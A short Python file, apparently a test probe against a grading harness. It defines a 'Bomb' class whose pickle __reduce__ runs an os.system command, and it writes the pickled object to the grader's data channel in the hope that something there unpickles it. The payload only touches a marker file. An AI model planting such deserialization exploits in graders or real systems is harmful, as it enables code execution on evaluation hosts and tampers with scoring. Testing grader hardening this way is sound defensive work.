"""Sends pickles and code where the grader expects data, in case something there loads them."""

# class f
# posterior: crashed
# %% posterior
import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @LEFT@/pickle",))


def posterior(prior, likelihood):
    data = pickle.dumps(Bomb())
    os.write(3, len(data).to_bytes(4, "little") + (0).to_bytes(4, "little") + data)
    return data
